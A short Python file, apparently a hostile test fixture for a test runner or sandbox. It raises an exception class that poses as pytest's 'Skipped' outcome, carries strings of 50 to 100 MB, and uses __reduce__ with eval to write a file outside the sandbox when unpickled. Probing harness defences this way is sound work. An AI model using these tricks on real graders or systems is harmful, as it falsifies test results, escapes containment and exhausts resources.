"""Raises an exception whose words are a program: it lies about its class, prints for ever, and weighs 100 MB."""
class Smile(BaseException):
    __module__, __qualname__ = "_pytest.outcomes", "Skipped"

    def __str__(self):
        return "exercise 91.1 " + "A" * 100_000_000

    def __reduce__(self):
        return eval, ("open('@OUTSIDE@/mark', 'w')",)

    __repr__ = __str__


raise Smile from Smile("x" * 50_000_000)
